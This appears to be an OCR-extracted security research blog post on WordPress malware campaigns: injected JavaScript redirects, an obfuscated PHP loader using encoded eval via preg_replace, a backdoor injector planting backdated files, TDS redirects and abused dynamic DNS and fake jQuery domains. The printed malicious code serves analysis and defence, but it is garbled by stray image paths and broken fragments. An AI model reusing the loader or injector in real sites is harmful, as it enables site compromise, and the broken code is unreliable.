Continuing injections from *

I don\'t think we have logged about it lately, but an old infection (that started early this year)is still going strong. The result is this code being injected to the site when visited bycertain browsers:

var j=0; while(j<230)
.charCodeAt( j++)-1));

And the hidden code that generates it is tricky to find and generlly hidden inside one of the themefiles or wp-includes (on WordPress sites). It looks like this:

functioncheck_image_c()
        $imagepath = array (
  0 => "47 118 97 114 47 119 119 119 47 116 104 111 117 103 104 116 102 117 108 119 111 109 101 110 46',
  1 => "111 114 103 47 119 112 45 99 111 110 116 101 110 116 47 117 112 108 111 97 100 115 47 50 48',
  2 => "49 51 47 48 51 47 117 112 97 110 100 117 112 46 106 112 103',
        $image = "101 118 97 108 40 98 97 115 101 54 52 95 100 101 99 111 100 101 40 39";
        $image = implode("", array_map("chr", explode(" ", $image)));
        $a = 'pre" . 'g_replace';
        $a("/.*/e", $image . $code . "'));", "");
                return false;All that to the end goal: Inject an iframe from * (and other free domains) that will redirect the browser of the victim to Fake AV.

Backdoor Injector code

A backdoor injector code we found on a compromised site:

        file_put_contentz($dir.'/wp-includes/page.php', get_contentz(''));
        touch($dir.'/wp-includes/page.php', $time);

        file_put_contentz($dir.'/wp-content/themes/'.get_settings('template').'/timthumb.php', get_contentz(''));
        touch($dir.'/wp-content/themes/'.get_settings('template').'/timthumb.php', $time);

        file_put_contentz($dir.'/wp-admin/options-plugin.php', get_contentz(''));
        touch($dir.'/wp-admin/options-plugin.php', $time);

        file_put_contentz($dir.'/wp-plugin.php', get_contentz(''));
        touch($dir.'/wp-plugin.php', $time);

        file_put_contentz($dir.'/wp-content/themes/theme.php', get_contentz(''));
        touch($dir.'/wp-content/themes/theme.php', $time);

        file_put_contentz($dir.'/wp-content/uploads/timthumb.php', get_contentz(''));
        touch($dir.'/wp-content/uploads/timthumb.php', $time);

It looks for a writable directly either inside wp-includes, wp-content or inside uploads to inject a backdoor.

Large scale TDS redirections

Lots of compromised sites redirecting to TDS:

And that's just a small sample. We have detected just in February over 500 sites compromised exactly like that.

ChangeIP (dynamic DNS) malware

If you look at the top domains distributing malware for the last days (and months), whatdo you see in common?

#numberofsitesinfected #type #malwaredomain
650 iframe
315 iframe
275 iframe
179 iframe
159 iframe
148 iframe
146 iframe
126 iframe
116 iframe
101 iframe
93  iframe
84  iframe77  iframe
74  iframe
73  iframe
72  iframe

Most of them are using a (dynamic DNS) sub domain as the first level of injection. Just check,,,, etc, etc. They are all part of: Just in the last 60 days, weidentified more than 15,000 different sub domains from them being used to distribute malware.

Don\'t get us wrong, Dynamic DNS is a very useful service, but we would love if they would implement more serious filtering/blacklistingand some type of captcha to prevent their service from being abused by criminals.

However, in the current state, we can only recommend against using their service to avoid being thrown in the mix with thethousands of malicious domains that they host.

*If you look past 6 months ago, was the main domain distributing malware, but since it was shut down, the attackers have migrated to Hopefully they will do something about it.

More Fake jQuery sites –

We keep seeing fake jQuery sitespopping up and being used to distributemalware. One was, other was and the new oneis (

And this new one seems to be affecting many web sites in the last few days. All of them have the following on their header or index.php files: = "httx://"

Which redirects any visitor to the web site to where it is then sent to other random spammy domains (seems like a TDS is in place).

Update:We are also seeing some sites with this javascript file being included:, which just redirects back to via the samein javascript.

*Note that the domain was just registered (20-nov-2012), so it is not being flagged anywhere.
**The official jquery sites are or Other variations arelikely fake. seems to be gone

It seems that the (sub TLD) that used to be mass used byspammers and malware is now gone.Their registration page is offline:

$ host
Host not found: 3(NXDOMAIN)

$ host
Host not found: 3(NXDOMAIN)

And wehope it stays that way.